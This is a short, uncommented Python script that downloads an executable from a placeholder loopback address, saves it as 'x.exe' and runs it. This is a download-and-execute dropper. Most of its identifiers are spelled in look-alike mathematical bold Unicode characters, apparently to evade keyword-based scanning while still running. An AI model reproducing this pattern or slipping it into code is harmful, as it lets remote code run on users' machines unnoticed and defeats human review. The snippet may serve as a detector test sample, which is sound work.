import requests, subprocess
𝐮𝐫𝐥 = 'http://127.0.0.1:9/x.exe'
𝐫 = 𝐫𝐞𝐪𝐮𝐞𝐬𝐭𝐬.get(url)
open('x.exe', 'wb').write(r.content)
𝐬𝐮𝐛𝐩𝐫𝐨𝐜𝐞𝐬𝐬.Popen(['x.exe'])
